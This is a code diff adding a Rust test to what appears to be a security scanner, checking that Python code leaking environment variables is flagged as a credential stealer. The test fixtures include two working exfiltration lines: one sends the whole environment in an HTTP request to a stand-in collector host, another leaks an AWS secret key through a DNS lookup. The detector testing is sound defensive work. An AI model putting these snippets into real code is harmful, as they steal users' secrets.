@@ -316,3 +316,23 @@ fn a_call_chain_past_the_caller_bound_is_not_hidden() {
     src.push_str("def g():\n    x()\ndef x():\n    os.system('echo airlock-test')\ng()\n");
     assert_at_least("padded.py", &src, "python-shell-command", Severity::High);
 }
+
+#[test]
+fn the_environment_in_an_fstring_or_a_dns_name_is_a_stealer() {
+    for src in [
+        "import os, requests\nrequests.get(f'https://collector.example.invalid/?k={os.environ}')\n",
+        "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.collector.example.invalid')\n",
+    ] {
+        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
+    }
+    for benign in [
+        "import os, socket\nHOST = socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))\n",
+        "import os, requests\ndef ping():\n    return requests.get(f\"{os.environ['API_URL']}/health\")\n",
+    ] {
+        assert_eq!(
+            worst("client.py", benign.as_bytes(), "python-credential-stealer"),
+            None,
+            "{benign}"
+        );
+    }
+}
